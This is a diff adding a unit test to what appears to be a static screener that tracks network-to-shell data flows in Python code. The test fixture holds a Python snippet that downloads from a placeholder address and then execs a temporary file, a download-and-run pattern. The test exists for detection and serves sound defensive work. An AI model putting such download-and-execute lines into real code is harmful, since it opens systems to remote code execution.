@@ -68,6 +68,18 @@ public sealed class HandlerTests(ParserContainer parser)
     public async Task A_download_is_followed_through_the_file_it_is_put_into(string code) =>
         Assert.Contains((await Screening.Screener(parser).PythonAsync(code)).Facts.OfType<CodeFlow>(), flow => flow is { Source: "network", Sink: "shell", Argument: "file" });
 
+    // A layer of its own makes up names of its own: the inner program runs another file than the one that was downloaded.
+    [Fact]
+    public async Task What_one_layer_makes_up_is_no_name_of_another()
+    {
+        const string code = "import subprocess, tempfile, urllib.request\nurllib.request.urlretrieve('http://192.0.2.1/', tempfile.mktemp())\nsubprocess.run(['python3', '-c', 'import os, tempfile\\np = tempfile.mktemp()\\nos.execv(p, [p])'])";
+
+        var report = await Screening.Screener(parser).PythonAsync(code);
+
+        Assert.Contains(report.Facts.OfType<CodeCall>(), call => call.Name == "os.execv");
+        Assert.DoesNotContain(report.Facts.OfType<CodeFlow>(), flow => flow is { Source: "network", Sink: "shell" });
+    }
+
     private static IEnumerable<string> Flows(ScreeningReport report) =>
         report.Facts.OfType<CodeFlow>().Select(flow => $"{flow.Source} {flow.SourceName} > {flow.Sink} {flow.SinkName} {flow.Argument}");
 }
